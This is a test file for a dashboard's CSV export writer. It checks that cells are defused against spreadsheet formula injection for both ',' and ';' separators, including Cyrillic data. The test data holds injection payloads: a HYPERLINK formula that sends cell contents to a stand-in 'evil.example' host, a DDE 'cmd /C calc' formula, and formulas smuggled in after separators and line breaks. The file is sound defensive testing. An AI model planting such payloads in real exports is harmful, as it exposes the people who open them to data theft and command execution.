// The one CSV writer behind every dashboard export: safe in Excel with either list separator (, or ;).
import { describe, expect, it } from 'vitest';
import { insertBacklinks } from '../../src/backlinks/store.ts';
import { memoryLogger } from '../../src/util/log.ts';
import { parseCsv } from '../../src/util/csv.ts';
import { JOBS } from '../../jobs/index.ts';
import { createApp } from '../../web/app.ts';
import { EXCEL_CSV, toCsv } from '../../web/csv.ts';
import { FakeClock, seedSitesIn, siteByName, testConfig, testStoreAndDb } from '../helpers.ts';

/** The single data cell of a one-column export, as written. */
const written = (v: unknown) => toCsv([{ v }], ['v']).split('\r\n')[1];

/** How a spreadsheet that splits on `delimiter` reads the one data row back. */
const readBack = (v: unknown, delimiter: ',' | ';') =>
  parseCsv(toCsv([{ n: 1, v, after: 'end' }], ['n', 'v', 'after']), delimiter)[1]!.cells;

/**
 * Cells a spreadsheet would take for a formula when it opens `csv` splitting on `delimiter`. With ";"
 * (Russian Excel) the quotes of a comma file are mid-field, so Excel reads them as plain characters,
 * as parseCsv() does: every ";" and line break then starts a new cell.
 */
function formulaCells(csv: string, delimiter: ',' | ';'): string[] {
  return parseCsv(csv, delimiter)
    .flatMap((r) => r.cells)
    .filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell));
}

const HOSTILE = [
  'x;=1+2',
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  'x;=HYPERLINK("http://evil.example/?"&A1;"Click")',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '+1',
  '-1+2',
  '\t=1+2',
  '\r=1+2',
  'a\n=1+2',
  'a\r\n@SUM(A1)',
  'x;\t=1+2',
  'тег;-2+3',
];

describe('toCsv()', () => {
  it('leaves no cell a spreadsheet would evaluate, splitting on "," or on ";" as Russian Excel does', () => {
    const csv = toCsv(HOSTILE.map((v, i) => ({ n: i, v, after: 'end' })));
    expect(formulaCells(csv, ',')).toEqual([]);
    expect(formulaCells(csv, ';')).toEqual([]);
  });

  it('quotes a cell holding ";" and defuses a formula that would start after it', () => {
    expect(written('x;=1+2')).toBe(`"x;'=1+2"`);
    expect(readBack('x;=1+2', ',')).toEqual(['1', "x;'=1+2", 'end']);
    expect(written('gl=ru;hl=ru')).toBe('"gl=ru;hl=ru"');
    expect(written('a; -b')).toBe('"a; -b"');
  });

  it('prefixes a quote to cells that start a formula (OWASP CSV injection)', () => {
    expect(written('=HYPERLINK("http://evil.example/?"&A1,"Click")')).toBe(
      `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`,
    );
    expect(written("@SUM(1+9)*cmd|' /C calc'!A0")).toBe(`'@SUM(1+9)*cmd|' /C calc'!A0`);
    expect(written('+1')).toBe(`'+1`);
    expect(written('-1+2')).toBe(`'-1+2`);
    expect(written('=1+2;x')).toBe(`"'=1+2;x"`);
  });

  it('defuses tab and carriage-return prefixes and quotes the control characters', () => {
    expect(written('\t=1+2')).toBe(`"'\t'=1+2"`);
    expect(written('\r=1+2')).toBe(`"'\r'=1+2"`);
    expect(written('a\tb')).toBe('"a\tb"');
  });

  it('defuses a formula that would start a new row after a line break inside a cell', () => {
    expect(written('a\n=1+2')).toBe(`"a\n'=1+2"`);
    expect(toCsv([{ v: 'a\r\n+1' }])).toBe(`v\r\n"a\r\n'+1"\r\n`);
  });

  it('keeps a plain negative number a number, in a typed value and in text', () => {
    expect(written(-12.5)).toBe('-12.5');
    expect(written(-3)).toBe('-3');
    expect(written('-12.5')).toBe('-12.5');
    expect(written(-1e-7)).toBe('-1e-7');
    expect(written('-12.5.1')).toBe(`'-12.5.1`);
    expect(written('-')).toBe(`'-`);
    expect(written(-Infinity)).toBe(`'-Infinity`);
  });

  it('doubles embedded quotes and keeps line breaks inside one quoted cell', () => {
    expect(written('say "hi"')).toBe('"say ""hi"""');
    expect(written('line 1\nline 2')).toBe('"line 1\nline 2"');
    expect(written('a,b')).toBe('"a,b"');
    expect(readBack('two\r\nlines, "quoted"', ',')).toEqual(['1', 'two\nlines, "quoted"', 'end']);
  });

  it('writes Cyrillic as it is and leaves ordinary cells unquoted', () => {
    expect(toCsv([{ q: 'диван угловой', n: 3, none: null }])).toBe('q,n,none\r\nдиван угловой,3,\r\n');
    expect(written('Бренд; "поиск"')).toBe('"Бренд; ""поиск"""');
  });

  it('defuses the header row too', () => {
    expect(toCsv([], ['=evil;col', 'ok'])).toBe(`"'=evil;col",ok\r\n`);
  });
});

describe('dashboard CSV exports', () => {
  it('export backlinks with hostile vendor and tags defused for either list separator', async () => {
    const { sql, db } = await testStoreAndDb();
    const clock = new FakeClock(Date.parse('2026-11-27T06:00:00Z'));
    const config = testConfig();
    await seedSitesIn(sql, config.sites, clock.now());
    const site = (await siteByName(sql, 'studio'))!;
    await insertBacklinks(
      sql,
      site.id,
      [
        {
          donorUrl: 'https://donor.example/post',
          target: 'https://studio.example/',
          targetKind: 'url',
          expectedAnchor: null,
          kind: 'bought',
          vendor: 'x;=1+2',
          priceMicros: 900_000_000,
          currency: 'RUB',
          billing: 'monthly',
          boughtOn: '2026-11-01',
          paidUntil: '2026-12-05',
          tags: ['seo', '@SUM(A1)'],
          notes: null,
          brand: null,
        },
      ],
      clock.now(),
    );
    const app = createApp({ db, sql, config, jobs: JOBS, now: clock.now, log: memoryLogger(), auth: null });
    const res = await app.request('/backlinks/export.csv');
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="studio-backlinks.csv"');
    const csv = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await res.arrayBuffer());
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(formulaCells(csv, ';')).toEqual([]);
    expect(formulaCells(csv, ',')).toEqual([]);
    const cells = parseCsv(csv, ',')[1]!.cells;
    expect(cells).toContain("x;'=1+2");
    expect(cells).toContain("seo;'@SUM(A1)");
  });
});

describe('the Excel flavour', () => {
  it('separates with ";", writes decimal commas, names the columns and stays safe', () => {
    const csv = toCsv(
      [{ q: 'видеосъёмка; цена', pos: 3.5, spend: -12.25, f: '=1+2' }],
      ['q', 'pos', 'spend', 'f'],
      { q: 'Запрос', pos: 'Позиция' },
      EXCEL_CSV,
    );
    expect(csv).toBe(`Запрос;Позиция;spend;f\r\n"видеосъёмка; цена";3,5;-12,25;'=1+2\r\n`);
  });
});
